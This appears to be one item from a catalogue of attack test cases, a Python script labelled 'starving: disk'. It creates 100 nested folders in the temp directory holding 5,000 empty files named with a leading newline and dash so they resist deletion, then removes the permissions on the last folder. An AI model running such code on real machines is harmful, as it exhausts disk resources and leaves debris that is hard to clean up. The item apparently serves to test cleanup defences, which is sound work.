# /// attack
# catalogue = "starving: disk"
# layers = ["clean"]
# aim = "left"
# stock = "it would have to be tidied up"
# ///
# Makes five thousand small files in deep folders, with names that are hard to delete.

# %%
import os
import tempfile

os.chdir(tempfile.gettempdir())
os.mkdir(TARGET["mark"])
os.chdir(TARGET["mark"])
for depth in range(100):
    os.mkdir("d")
    os.chdir("d")
    for number in range(50):
        open(f"\n-{number}", "w").close()
os.chmod(".", 0)

# %% accomplice
import os
import tempfile

print(os.listdir(tempfile.gettempdir()))
